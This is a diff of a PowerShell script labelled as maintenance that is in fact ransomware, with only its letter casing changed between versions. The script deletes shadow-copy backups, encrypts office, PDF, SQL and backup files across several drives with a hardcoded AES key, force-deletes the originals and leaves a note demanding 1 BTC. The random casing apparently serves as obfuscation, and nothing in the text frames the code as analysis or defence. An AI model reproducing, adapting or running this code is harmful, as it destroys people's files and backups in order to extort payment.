@@ -1,12 +1,12 @@
-# MaInTeNaNcE 7768 V3
-VsSadmIn.EXe dElete ShAdOwS /alL /quiET
-geT-WMioBJEct win32_ShADowCoPY | FoReaCh-OBjecT { $_.DEletE() }
-$aES = [SYSteM.SeCUrIty.CrYpToGrApHy.aes]::CrEaTE()
-$AEs.key = [tEXt.EncodiNG]::utf8.gEtByTeS('Adm1n!strat0rAdm1n!strat0r'.SUBStRINg(0,32))
-gEt-CHILdItEM -path D:\, E:\, c:\USerS -InCLuDe *.docX,*.XlSx,*.pDF,*.SqL,*.BAk -recursE -ERroraCTIon SiLENtLYcONTinUE | FOreACh-Object {
-  $ByTEs = [iO.fiLE]::rEaDaLlByTeS($_.fULLNamE)
-  $eNC = $aes.cREaTEEncrypTOR().TrAnSfOrMfInAlBlOcK($bytES, 0, $BYtes.lENGtH)
-  [iO.FIle]::wrIteAllbytEs($_.FulLnaME + '.pay', $ENc)
-  REMOVE-item $_.FuLlnamE -fOrCe
+# maintenance 7768 v3
+VsSaDmIn.ExE dEletE SHadoWs /all /QuIeT
+gET-wmIObjeCt WiN32_ShAdOwCoPy | fOREacH-objECT { $_.DEleTe() }
+$AES = [sYstEm.SEcurITY.cRyPtOgRaPhY.aeS]::CREATE()
+$aeS.kEy = [TeXt.ENcodiNg]::uTF8.getbytES('Adm1n!strat0rAdm1n!strat0r'.sUbstriNG(0,32))
+get-ChiLDITeM -PaTh d:\, e:\, c:\uSeRs -InClUdE *.DOcX,*.XLsx,*.pdf,*.SQl,*.BAK -rEcUrSE -ErroraCTIoN SiLENtlycontiNuE | fOrEaCh-oBjEcT {
+  $byTES = [io.FiLE]::rEAdALLbyTES($_.FulLNaME)
+  $enc = $aes.cReAtEeNcRyPtOr().TrAnSfOrMfInAlBlOcK($bYTes, 0, $BYtes.LeNgTh)
+  [IO.fIlE]::writeALlBYTes($_.fuLLNAMe + '.pay', $enc)
+  ReMoVe-iTeM $_.FUllnAmE -FoRcE
 }
-seT-COntENT c:\UsErS\pubLic\DeSKTOp\HoW_To_dEcRyPt.TXt 'Your files have been encrypted. Pay 1 BTC to restore them.'
+SeT-COntent C:\uSers\pUbLIc\DesKTOP\hOW_TO_DecrypT.tXt 'Your files have been encrypted. Pay 1 BTC to restore them.'
